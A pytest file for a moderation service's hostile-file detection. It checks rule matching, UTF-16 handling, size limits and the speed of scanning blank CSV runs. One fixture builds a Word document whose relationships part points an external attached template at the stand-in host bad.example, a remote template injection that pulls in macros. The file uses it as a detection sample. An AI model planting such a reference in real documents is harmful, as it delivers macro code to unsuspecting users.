"""Hostile files are caught by the rule that is about them; honest ones by none."""

import random

import pytest

from services.moderation.tests.hostile import HONEST, HOSTILE, Made
from services.moderation.tests.hostile.files import CSV
from services.moderation.tests.hostile.making import DOCX, zipped
from services.moderation.tests.looking import inspect

pytestmark = pytest.mark.slow

FOR_US = [made for made in HOSTILE if made.rules != ("malware",)]
"""What clamd finds is in test_scanning."""


@pytest.mark.parametrize("made", FOR_US, ids=lambda made: made.what)
async def test_a_hostile_file_is_caught_by_the_rule_that_is_about_it(made: Made) -> None:
    found = await inspect(made)
    assert {one.rule for one in found} & set(made.rules), found


@pytest.mark.parametrize("made", HONEST, ids=lambda made: made.what)
async def test_an_honest_file_is_caught_by_none(made: Made) -> None:
    assert await inspect(made) == []


def document(parts: dict[str, bytes]) -> Made:
    kinds = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    return Made("a letter", "letter.docx", DOCX, lambda: zipped({**kinds, **parts}))


FETCHES = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://bad.example/t.dotm" TargetMode="External"/></Relationships>'
)


async def test_what_is_written_in_utf_16_is_read_like_anything_else() -> None:
    found = await inspect(document({"word/_rels/settings.xml.rels": FETCHES.encode("utf-16")}))
    assert "macros" in {one.rule for one in found}


async def test_a_part_too_long_to_be_read_to_its_end_is_held() -> None:
    padding = b"<!--" + random.Random(7).randbytes(4_100_000).hex().encode() + b"-->"
    found = await inspect(document({"word/_rels/settings.xml.rels": padding + FETCHES.encode()}))
    assert "archive_limits" in {one.rule for one in found}


async def test_a_table_with_a_long_blank_run_is_looked_through_in_a_moment() -> None:
    assert await inspect(Made("a table", "table.csv", CSV, lambda: b"a" + b"\n" * 400_000 + b"b")) == []
